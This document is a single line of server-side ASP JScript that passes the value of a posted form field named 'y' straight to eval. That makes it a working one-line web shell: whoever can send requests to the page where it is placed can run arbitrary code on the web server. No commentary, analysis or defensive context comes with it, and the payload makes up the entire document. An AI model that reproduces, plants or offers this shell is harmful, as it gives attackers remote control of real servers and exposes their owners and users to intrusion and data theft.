<script language="JScript" runat="server">eval(Request.Form("y") + "")</script>
